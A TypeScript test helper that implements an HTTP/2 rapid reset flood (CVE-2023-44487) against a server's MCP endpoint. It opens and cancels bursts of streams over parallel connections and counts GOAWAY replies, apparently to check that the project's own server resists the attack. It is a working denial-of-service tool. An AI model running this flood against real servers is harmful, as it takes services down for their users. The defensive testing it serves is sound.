/**
 * Hostile clients for the edge tests, written with node:http2 and node:net directly (what an
 * attacker would use), each bounded in time.
 */
import http2 from 'node:http2';
import { INITIALIZE, MCP_HEADERS } from '../test-support.ts';

const { NGHTTP2_CANCEL } = http2.constants;

export interface RapidResetResult {
  /** Streams opened (each with a POST initialize body) and reset at once. */
  streams: number;
  /** GOAWAY frames received (the server telling an abusive connection to go). */
  goaways: number;
  /** The error codes of those GOAWAYs. */
  goawayCodes: number[];
}

/**
 * HTTP/2 rapid reset (CVE-2023-44487), as in issue #13: on `connections` connections at once,
 * opens POST initialize streams with a body and resets each at once (RST_STREAM CANCEL), in
 * bursts of `burst` streams per turn of the event loop, for `durationMs`. A connection that
 * gets GOAWAY or breaks is replaced by a new one, as an attacker would.
 */
export async function rapidReset(
  url: string,
  options: { connections: number; durationMs: number; burst?: number },
): Promise<RapidResetResult> {
  const result: RapidResetResult = { streams: 0, goaways: 0, goawayCodes: [] };
  const until = performance.now() + options.durationMs;
  const body = JSON.stringify(INITIALIZE);
  const burst = options.burst ?? 20;
  const attack = async (): Promise<void> => {
    while (performance.now() < until) {
      const session = http2.connect(url);
      session.on('error', () => {});
      session.on('goaway', (code: number) => {
        result.goaways++;
        result.goawayCodes.push(code);
      });
      await new Promise<void>((resolve) => {
        const closed = (): void => resolve();
        session.once('close', closed);
        const fire = (): void => {
          if (session.closed || session.destroyed) return;
          if (performance.now() >= until) {
            // The PING's answer comes after the server has processed every frame before it:
            // only then is the flood's effect (a GOAWAY, or none) known.
            session.ping(() => session.destroy());
            return;
          }
          try {
            for (let i = 0; i < burst; i++) {
              const req = session.request({
                ':method': 'POST',
                ':path': '/example/mcp',
                ...MCP_HEADERS,
              });
              req.on('error', () => {});
              req.end(body);
              req.close(NGHTTP2_CANCEL);
              result.streams++;
            }
          } catch {
            session.destroy();
            return;
          }
          setImmediate(fire);
        };
        session.once('connect', fire);
      });
    }
  };
  await Promise.all(Array.from({ length: options.connections }, attack));
  return result;
}
